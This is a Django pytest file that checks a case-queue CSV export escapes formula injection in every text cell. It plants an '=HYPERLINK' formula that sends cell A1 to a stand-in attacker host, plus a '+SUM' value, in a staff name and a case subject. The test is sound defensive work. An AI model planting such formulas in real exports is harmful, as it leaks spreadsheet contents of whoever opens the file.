"""Attacks on the queue's bulk acts: a formula planted in any text the export writes (not only the
subject: an investigator's name is typed on the staff page) must reach the spreadsheet as text."""

from __future__ import annotations

import csv
import io
import time

import pytest
import time_machine
from django.test import Client

from senim.accounts.models import User
from senim.organization.models import Role
from tests.second_factor_helpers import enrol_totp, password_step, sign_in_with_code, totp

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")'


def test_every_text_cell_of_the_export_is_text(make_staff, make_case) -> None:
    make_staff(Role.CHIEF, "REG-75", username="chief-export")
    investigator = make_staff(Role.INVESTIGATOR, "REG-75", username="inv-formula")
    User.objects.filter(pk=investigator.pk).update(first_name=FORMULA, last_name="")
    case = make_case("DST-75-02", subject="+SUM(1,2)")
    case.assignee_id = investigator.pk
    case.save(update_fields=["assignee"])
    client = Client(HTTP_ACCEPT_LANGUAGE="en")
    password_step(client, "chief-export")
    secret, _codes = enrol_totp(client)
    # A later period's code: allauth refuses a code used once (the enrolment's) in its period.
    for periods in (1, 2):
        client = Client(HTTP_ACCEPT_LANGUAGE="en")
        with time_machine.travel(time.time() + 30 * periods, tick=True):
            signed = sign_in_with_code(client, "chief-export", totp(secret))
        if signed.status_code == 302:
            break

    exported = client.post("/office/cases/", {"case": [case.pk], "act": "export"})
    assert exported["Content-Type"] == "text/csv; charset=utf-8"
    rows = list(csv.reader(io.StringIO(exported.content.decode("utf-8-sig")), delimiter=";"))
    for cell in rows[1]:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    assert FORMULA in rows[1][6]
